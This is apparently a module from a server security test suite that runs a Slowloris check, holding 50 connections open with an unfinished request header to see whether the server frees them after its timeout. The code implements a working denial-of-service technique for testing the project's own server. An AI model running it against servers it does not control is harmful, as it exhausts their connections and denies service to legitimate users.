"""Breaks: the server's patience, with requests that never get as far as their headers' end.

Known as Slowloris. Each connection costs Mallory a byte now and then. The server keeps a socket
for it, and no code of the app has run yet, so nothing could ask for a token.
"""

import asyncio
from collections import Counter
from contextlib import AsyncExitStack

from attacks.finding import Finding
from attacks.target import Server
from attacks.wire import connected

AGAINST = "server"
CASE = ""

CONNECTIONS = 50


async def attack(server: Server) -> Finding:
    async with AsyncExitStack() as stack:
        wires = [await stack.enter_async_context(connected(server)) for _ in range(CONNECTIONS)]
        for wire in wires:
            await wire.send(wire.head("GET", "/sse") + b"X-Slow: ")
        answers = Counter(
            await asyncio.gather(*(wire.trickle(server.patience) for wire in wires))
        )
    if answers[None]:
        held = f"{answers[None]} of {CONNECTIONS} connections are held"
        return Finding(True, f"after {server.patience:g} s {held}, without a token")
    [(answer, count)] = answers.most_common(1)
    return Finding(False, f"{count} of {CONNECTIONS} closed: {answer}")
